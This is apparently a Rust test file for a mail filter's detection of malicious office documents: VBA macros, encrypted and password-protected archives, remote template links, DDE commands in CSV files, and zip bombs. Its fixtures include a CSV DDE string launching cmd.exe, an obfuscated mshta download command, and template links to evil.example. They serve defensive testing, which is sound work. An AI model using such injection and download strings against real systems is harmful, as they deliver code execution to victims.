//! What is found in office documents. Expected results are those of SpamAssassin 4.0.1, but for objects, which it has
//! functions for that never hold.

use std::io::Write as _;

use crate::mail::file::zip;
use crate::rules::eval::trial::{message, part, run};

const OLE: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";

/// The rules, short: macro, malice, encrypted, renamed, locked, command, download, link, mhtml, object, RTF object.
const CALLS: &[(&str, char)] = &[
    ("check_olemacro", 'm'),
    ("check_olemacro_malice", 'x'),
    ("check_olemacro_encrypted", 'e'),
    ("check_olemacro_renamed", 'r'),
    ("check_olemacro_zip_password", 'p'),
    ("check_olemacro_csv", 'c'),
    ("check_olemacro_download_exe", 'd'),
    ("check_olemacro_redirect_uri", 'l'),
    ("check_olemacro_mhtml_uri", 'h'),
    ("check_oleobject", 'o'),
    ("check_olertfobject", 't'),
];

fn with(lines: &[&str], files: &[(&str, &[u8])]) -> String {
    let parts: Vec<String> =
        files.iter().map(|(name, content)| part("application/octet-stream", name, content)).collect();
    let mail = message(&parts);
    CALLS.iter().filter(|(call, _)| run(&mail, lines, call) == 1).map(|(_, letter)| letter).collect()
}

fn finds(name: &str, content: &[u8]) -> String {
    with(&[], &[(name, content)])
}

fn ole(content: &[u8]) -> Vec<u8> {
    [OLE, &[0; 600], content].concat()
}

fn archive(files: &[(&str, &[u8])], flags: u8) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in files {
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(content).unwrap();
        let packed = encoder.finish().unwrap();
        let number = |value: usize| u32::try_from(value).unwrap().to_le_bytes();
        let at = number(bytes.len());
        let sizes = [number(packed.len()), number(content.len())].concat();
        let name_length = u16::try_from(name.len()).unwrap().to_le_bytes();
        let shared = [&[20, 0, flags, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0], &sizes[..], &name_length, &[0, 0]].concat();
        bytes.extend([&b"PK\x03\x04"[..], &shared, name.as_bytes(), &packed].concat());
        directory.extend([&b"PK\x01\x02\x14\0"[..], &shared, &[0; 10], &at, name.as_bytes()].concat());
    }
    let end =
        [u32::try_from(directory.len()).unwrap().to_le_bytes(), u32::try_from(bytes.len()).unwrap().to_le_bytes()];
    [&bytes[..], &directory, b"PK\x05\x06\0\0\0\0\0\0\0\0", &end.concat(), b"\0\0"].concat()
}

fn relations(target: &str, mode: &str) -> Vec<u8> {
    let text = format!("<Relationships><Relationship Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>");
    archive(&[("word/_rels/document.xml.rels", text.as_bytes())], 0)
}

#[test]
fn macros_are_found_in_old_documents() {
    let plain = ole(b"_VBA_PROJECT");
    let with_macro = ole(b"\0Attribut\0e VB_Name");
    assert_eq!((finds("a.doc", &plain), finds("a.doc", &with_macro)), (String::new(), "m".to_owned()));
    assert_eq!(finds("a.doc", &ole(b"\0Attribut\0e Sub Document_Open()")), "mx");
    assert_eq!(finds("a.doc", &ole(b"Sub Document_Open()")), "", "no macro, no malice");
    assert_eq!(finds("a.dat", &with_macro), "", "only documents are looked at");
    assert_eq!(with(&["olemacro_extended_scan 1"], &[("a.dat", &with_macro)]), "mr");
    assert_eq!(finds("a.doc", b"\0Attribut\0e"), "", "it is no such document");
}

#[test]
fn macros_are_found_in_new_documents() {
    let with_macro = archive(&[("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"AutoOpen")], 0);
    assert_eq!(finds("a.docx", &with_macro), "mx");
    assert_eq!(finds("a.docx", &archive(&[("word/document.xml", b"AutoOpen")], 0)), "");
    assert_eq!(finds("a.pptx", &with_macro), "", "such names are skipped");
    assert_eq!(finds("a.docm", b"hello"), "m", "the name says that it has macros");
}

#[test]
fn archives_are_opened_only_so_deep() {
    let document = ole(b"\0Attribut\0e");
    let once = archive(&[("a.doc", &document)], 0);
    let twice = archive(&[("b.zip", &once)], 0);
    let thrice = archive(&[("c.zip", &twice)], 0);
    assert_eq!((finds("a.zip", &once), finds("a.zip", &twice)), ("m".to_owned(), "m".to_owned()));
    assert_eq!(finds("a.zip", &thrice), "");
    assert_eq!(with(&["olemacro_zip_depth 3"], &[("a.zip", &thrice)]), "m");
}

#[test]
fn only_so_many_files_are_looked_at() {
    let document = ole(b"\0Attribut\0e");
    let mut files: Vec<(&str, &[u8])> = vec![("a.doc", OLE); 5];
    files.push(("z.doc", &document));
    assert_eq!(with(&[], &files), "");
    assert_eq!(with(&["olemacro_num_mime 6"], &files), "m");
    assert_eq!(finds("a.zip", &archive(&files, 0)), "m");
    assert_eq!(with(&["olemacro_num_zip 5"], &[("a.zip", &archive(&files, 0))]), "");
}

#[test]
fn passwords_are_noticed() {
    assert_eq!(finds("a.zip", &archive(&[("a.txt", b"x")], 1)), "p");
    assert_eq!(
        finds("a.zip", &archive(&[("a.pptx", b"x")], 1)) + &finds("a.docx", &archive(&[("a.xml", b"x")], 1)),
        ""
    );
    let mut word = ole(&[0; 100]);
    word[0x20b] = 0x13;
    assert_eq!(finds("a.doc", &word), "e");
}

#[test]
fn links_to_the_web_are_found() {
    assert_eq!(finds("a.docx", &relations("https://evil.example/x.dotm", "External")), "l");
    assert_eq!(finds("a.docx", &relations("mhtml:http://evil.example/x", "External")), "lh");
    assert_eq!(finds("a.docx", &relations("https://evil.example/x", "Internal")), "");
    assert_eq!(finds("a.docx", &relations("file:///C:/x.dotm", "External")), "");
}

#[test]
fn commands_and_downloads_are_found() {
    assert_eq!(finds("a.csv", b"a,=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1\n"), "c");
    assert_eq!(finds("a.csv", b"MSEXCEL|Windows\\System32\\cmd.exe"), "", "nothing stands between");
    assert_eq!(
        finds("a.csv", b"MSEXCEL|aaaaaaaaaaaaaaaaaaaaaWindows\\System32\\cmd.exe"),
        "",
        "too much stands between"
    );
    let script = ole(b"cmd /c ms^h^ta ht^tps:/^/x");
    assert_eq!(finds("a.doc", &script), "d");
    assert_eq!(with(&["olemacro_download_marker (?:get (?:it|that))"], &[("a.doc", &ole(b"get that"))]), "d");
    assert_eq!(with(&["olemacro_download_marker (?:get (?:it|that))"], &[("a.doc", &script)]), "");
}

#[test]
fn objects_are_found() {
    assert_eq!(finds("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}"), "mt");
    assert_eq!(finds("a.doc", &ole(b"\x01\0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0")), "mo");
}

#[test]
fn damaged_archives_are_read_as_far_as_they_go() {
    let whole = archive(&[("word/vbaProject.bin", b"AutoOpen"), ("word/_rels/a.rels", b"x")], 0);
    for cut in 0..whole.len() {
        let found = finds("a.docx", &whole[..cut]);
        assert!(found.is_empty() || found.starts_with('m'), "{cut}: {found}");
    }
}

#[test]
fn bombs_are_unpacked_only_so_far() {
    let zeros = vec![0; 8 * 1024 * 1024];
    let bomb = archive(&[("a.doc", &zeros)], 0);
    assert_eq!(zip::entries(&bomb)[0].content(1000, usize::MAX).content.len(), 1000);
    let document = ole(b"\0Attribut\0e");
    let last = archive(&[("b.doc", &document)], 0);
    let lines = &["olemacro_max_file 100000000"];
    assert_eq!(with(lines, &[("a.zip", &bomb), ("z.zip", &last)]), "m");
    // Two of them take all that one message may have.
    assert_eq!(with(lines, &[("a.zip", &bomb), ("b.zip", &bomb), ("z.zip", &last)]), "");
}
